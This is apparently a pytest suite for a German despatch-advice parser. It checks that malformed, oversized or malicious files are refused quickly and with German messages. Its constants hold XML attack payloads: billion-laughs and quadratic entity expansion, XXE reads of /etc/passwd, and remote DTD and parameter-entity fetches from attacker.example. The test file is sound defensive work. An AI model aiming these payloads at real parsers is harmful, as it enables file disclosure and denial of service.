"""Files that mean harm or came to harm: a German refusal in bounded time and memory, and no call into the world."""

import datetime as dt
import tracemalloc
from decimal import Decimal
from pathlib import Path
from time import process_time

import pytest

from integrations.despatch.limits import MAX_BYTES, check_size, load
from integrations.despatch.reader import read_despatch
from integrations.despatch.types import DespatchAdvice, DespatchError, DespatchLine

from .samples import ADVICE
from .writers import csv_list, desadv, opentrans, ubl

WRITERS = {"opentrans": opentrans, "ubl": ubl, "desadv": desadv, "csv": csv_list}
LAUGHS = (
    '<!DOCTYPE DISPATCHNOTIFICATION [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
QUADRATIC = f'<!DOCTYPE DISPATCHNOTIFICATION [<!ENTITY a "{"x" * 50_000}">]>'
EXTERNAL = '<!DOCTYPE DISPATCHNOTIFICATION [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE DISPATCHNOTIFICATION SYSTEM "http://attacker.example/evil.dtd">'
PARAMETER = '<!DOCTYPE DISPATCHNOTIFICATION [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>'


def _refusal(raw: bytes) -> str:
    with pytest.raises(DespatchError) as caught:
        read_despatch(raw)
    return str(caught.value)


@pytest.mark.parametrize("doctype", [LAUGHS, QUADRATIC, EXTERNAL, REMOTE, PARAMETER])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_no_document_type_no_entities(doctype: str, encoding: str) -> None:
    text = opentrans(ADVICE).replace("<DISPATCHNOTIFICATION ", f"<!-- x -->\n{doctype}<DISPATCHNOTIFICATION ", 1)
    text = text.replace("LS-4711", "&a9;" if doctype is LAUGHS else "&a;" * 5_000)
    start = process_time()
    assert "DOCTYPE" in _refusal(text.encode(encoding))
    assert process_time() - start < 2


def test_an_entity_without_document_type() -> None:
    assert "Textersetzung" in _refusal(opentrans(ADVICE).replace("LS-4711", "&a;").encode())


def test_character_references_are_text() -> None:
    assert read_despatch(opentrans(ADVICE).replace("LS-4711", "LS&#45;4711").encode()).delivery_note == "LS-4711"


def test_includes_are_not_followed() -> None:
    evil = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    assert read_despatch(opentrans(ADVICE).replace("Teillieferung", f"Teil{evil}lieferung").encode()).note == "Teillieferung"


def test_200_megabytes_are_refused_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "gross.xml"
    with path.open("wb") as file:
        file.truncate(200 * 1024 * 1024)
    tracemalloc.start()
    with pytest.raises(DespatchError, match=r"Die Datei hat 200 MB, ein Lieferavis darf höchstens 128 MB haben\."):
        load(path)
    assert tracemalloc.get_traced_memory()[1] < 1_000_000
    tracemalloc.stop()
    with pytest.raises(DespatchError, match="200 MB"):
        check_size(200 * 1024 * 1024)
    with pytest.raises(DespatchError, match="leer"):
        check_size(0)


def test_200_megabytes_in_memory_are_not_looked_at() -> None:
    raw = b"<" * (MAX_BYTES + 1)
    start = process_time()
    assert "höchstens 128 MB" in _refusal(raw)
    assert process_time() - start < 0.5


def test_junk_between_lines_does_not_fill_memory() -> None:
    junk = "<a/>" * 3_000_000
    text = opentrans(ADVICE).replace("<DISPATCHNOTIFICATION_ITEM_LIST>", junk + "<DISPATCHNOTIFICATION_ITEM_LIST>")
    assert "stehen mehr als 8 MB" in _refusal(text.encode())


def test_more_segments_than_any_delivery_has() -> None:
    text = desadv(ADVICE).replace("CPS+1'", "FTX'" * 2_100_000)
    assert "mehr als 2000000 Segmente" in _refusal(text.encode())


def test_lists_and_messages_have_less_room_than_xml() -> None:
    assert "höchstens 32 MB" in _refusal(b"a;b\n" * 9_000_000)


@pytest.mark.parametrize("depth", [300, 100_000])
def test_deep_nesting(depth: int) -> None:
    text = opentrans(ADVICE).replace("<PARTIES>", "<x>" * depth + "</x>" * depth + "<PARTIES>")
    assert "tief verschachtelt" in _refusal(text.encode())


def test_one_huge_text() -> None:
    refusal = _refusal(opentrans(ADVICE).replace("Teillieferung", "x" * 12_000_000).encode())
    assert "8 MB" in refusal or "Textblock ist zu groß" in refusal


@pytest.mark.parametrize("name", ["opentrans", "ubl", "desadv"])
def test_cut_off_anywhere(name: str) -> None:
    raw = WRITERS[name](ADVICE).encode()
    for at in range(10, len(raw) - 1, 7):
        assert any(
            word in _refusal(raw[:at]) for word in ("abgeschnitten", "bricht", "fehlt", "Wurzelelement", "kein Lieferavis")
        )


def test_a_list_cut_off_in_quotes() -> None:
    text = csv_list(ADVICE).replace("Kabel, grün;", '"Kabel, grün;')
    assert "bricht in einem Feld mit Anführungszeichen ab" in _refusal(_usual(text))


@pytest.mark.parametrize("name", list(WRITERS))
def test_nul_bytes(name: str) -> None:
    raw = WRITERS[name](ADVICE).encode().replace(b"4711", b"47\x0011")
    assert "NUL-Zeichen" in _refusal(raw)
    assert "Zeile" in _refusal(raw)


@pytest.mark.parametrize("name", ["opentrans", "ubl"])
def test_says_utf_8_and_is_not(name: str) -> None:
    found = read_despatch(WRITERS[name](ADVICE).encode("cp1252"))
    assert found.lines[1].text == "Kabel, grün"
    assert found.hints == (
        "Die Datei nennt UTF-8, enthält aber andere Zeichen; gelesen als Windows-1252. Bitte Umlaute prüfen.",
    )


@pytest.mark.parametrize("declared", ["ISO-8859-1", "windows-1252", "US-ASCII", "UTF-16", "x-unheard-of", "idna", "zip"])
def test_says_something_else_and_is_utf_8(declared: str) -> None:
    found = read_despatch(ubl(ADVICE).replace("UTF-8", declared).encode())
    assert found.lines[1].text == "Kabel, grün"
    assert len(found.hints) == 1


def test_says_latin_1_and_is() -> None:
    found = read_despatch(ubl(ADVICE).replace("UTF-8", "ISO-8859-1").encode("latin-1"))
    assert (found.lines[1].text, found.hints) == ("Kabel, grün", ())


def test_charset_of_the_interchange() -> None:
    text = desadv(ADVICE)
    for level, encoding, hints in (("UNOC", "latin-1", 0), ("UNOC", "utf-8", 1), ("UNOA", "cp1252", 1), ("UNOW", "cp1252", 1)):
        found = read_despatch(text.replace("UNOW", level).encode(encoding))
        assert (found.lines[1].text, len(found.hints)) == ("Kabel, grün", hints)


def test_bytes_of_no_charset_are_named() -> None:
    assert "Byte" in _refusal(ubl(ADVICE).encode("cp1252").replace(b"gr\xfcn", b"gr\x81\xfcn"))


def _large(count: int) -> DespatchAdvice:
    lines = tuple(
        DespatchLine(
            str(n), Decimal(1), "C62", f"A-{n}", f"A-{n}", "", "Netzwerkkabel Cat 6A", (f"S{n:09}",), "", "B-1", str(n)
        )
        for n in range(1, count + 1)
    )
    return DespatchAdvice("", "LS-1", lines, orders=("B-1",), despatched_on=dt.date(2026, 11, 2))


@pytest.mark.parametrize(("name", "count"), [("opentrans", 100_000), ("desadv", 30_000), ("csv", 30_000), ("ubl", 10_000)])
def test_very_long_advices(name: str, count: int) -> None:
    """Seconds, not minutes."""
    text = WRITERS[name](_large(count))
    raw = _usual(text) if name == "csv" else text.encode()
    start = process_time()
    found = read_despatch(raw)
    assert process_time() - start < 60
    assert len(found.lines) == count
    assert (found.lines[-1].serials, found.hints) == ((f"S{count:09}",), ())


def _usual(text: str) -> bytes:
    """The list with titles that need no mapping."""
    head, _, rest = text.partition("\n")
    usual = "Lieferschein;Lieferdatum;Bestellung;Pos;Artikelnummer;Ihre Artikelnummer;EAN;Bezeichnung;Menge;Einheit;Seriennummern;Charge;Paket"
    assert head.count(";") == usual.count(";")
    return f"{usual}\n{rest}".encode()
